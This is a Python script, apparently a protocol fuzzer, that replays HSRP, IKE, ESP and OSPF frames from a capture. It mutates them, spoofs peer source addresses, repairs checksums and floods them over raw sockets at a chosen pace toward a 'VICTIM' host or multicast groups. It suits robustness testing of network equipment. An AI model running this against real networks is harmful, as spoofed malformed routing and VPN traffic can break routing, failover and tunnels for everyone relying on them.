"""Real messages, mutated, at a steady pace. flood.py IFACE CAPTURE COUNT PACE VICTIM PEER

Takes the HSRP, IKE, ESP and OSPF messages of CAPTURE, and sends COUNT mutations of those of each protocol out of IFACE, PACE
frames a second: those to the address VICTIM or to a group, from the peers' addresses (its own messages to a group seem to
come from PEER), but from IFACE's MAC address, so that a switch still finds everybody. Lengths and checksums of IP are put right, UDP's is left out and OSPF's often put right, so that the nonsense
gets as far as it can.
"""
import random
import socket
import struct
import sys
import time
import warnings

warnings.filterwarnings("ignore")
from scapy.utils import RawPcapReader  # noqa: E402

IFACE, CAPTURE, COUNT, PACE = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
VICTIM, PEER = (socket.inet_aton(address) for address in sys.argv[5:7])
chance = random.Random(1)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def kind(frame):
    if frame[12:14] != b"\x08\x00":
        return None
    protocol, header = frame[23], 14 + (frame[14] & 15) * 4
    if protocol in (50, 89):
        return {50: "esp", 89: "ospf"}[protocol]
    if protocol != 17:
        return None
    port = struct.unpack(">H", frame[header + 2:header + 4])[0]
    if port == 4500 and frame[header + 8:header + 12] != b"\0\0\0\0":
        return "esp"
    return {1985: "hsrp", 500: "ike", 4500: "ike"}.get(port)


def mutate(frame):
    header = 14 + (frame[14] & 15) * 4
    udp = 8 if frame[23] == 17 else 0
    body = bytearray(frame[header + udp:])
    for _ in range(chance.randint(1, 5)):
        if body:
            at = chance.randrange(min(len(body), 80))
            body[at] = chance.choice((chance.randrange(256), 0, 255, body[at] ^ (1 << chance.randrange(8))))
    if chance.random() < 0.3:
        body = body[: chance.randint(0, len(body))]
    if chance.random() < 0.1:
        body += bytes(chance.randrange(256) for _ in range(chance.randint(1, 60)))
    if frame[23] == 89 and len(body) >= 24 and chance.random() < 0.7:
        body[12:14] = b"\0\0"
        body[12:14] = struct.pack(">H", checksum(bytes(body[:16] + body[24:])))
    if udp:
        body = frame[header:header + 4] + struct.pack(">HH", len(body) + 8, 0) + body
    ip = bytearray(frame[14:header])
    ip[2:4] = struct.pack(">H", len(ip) + len(body))
    ip[10:12] = b"\0\0"
    ip[10:12] = struct.pack(">H", checksum(bytes(ip)))
    return bytes(frame[:14]) + bytes(ip) + bytes(body)


seeds = {}
own = bytes.fromhex(open("/sys/class/net/%s/address" % IFACE).read().strip().replace(":", ""))
for frame, _ in RawPcapReader(CAPTURE):
    to_group = frame[0] & 1
    if frame[30:34] != VICTIM and not to_group:
        continue
    src = PEER if frame[26:30] == VICTIM else frame[26:30]
    frame = frame[:6] + own + frame[12:26] + src + frame[30:]
    seeds.setdefault(kind(frame), []).append(frame)
seeds.pop(None, None)
missing = {"hsrp", "ike", "esp", "ospf"} - set(seeds)
if missing:
    sys.exit("no messages of " + ", ".join(sorted(missing)))
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((IFACE, 0))
start, sent = time.monotonic(), 0
for n in range(COUNT):
    for name in sorted(seeds):
        out.send(mutate(chance.choice(seeds[name])))
        sent += 1
    if n % 16 == 0:
        ahead = start + sent / PACE - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
print(sent)
